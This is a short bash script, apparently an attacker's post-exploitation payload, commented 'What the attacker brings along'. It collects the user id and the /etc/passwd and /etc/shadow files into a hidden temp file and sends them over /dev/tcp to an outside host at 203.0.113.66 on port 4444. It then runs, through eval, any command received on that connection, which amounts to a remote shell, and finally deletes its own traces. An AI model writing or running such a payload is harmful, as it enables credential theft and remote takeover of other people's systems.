#!/bin/bash
# What the attacker brings along.
id > /tmp/.f
cat /etc/passwd >> /tmp/.f
cat /etc/shadow >> /tmp/.f
exec 3<> /dev/tcp/203.0.113.66/4444
cat /tmp/.f >&3
while read -r -t 1 order <&3; do
    eval "$order" >&3 2>&1
done
rm -f /tmp/.f "$0"
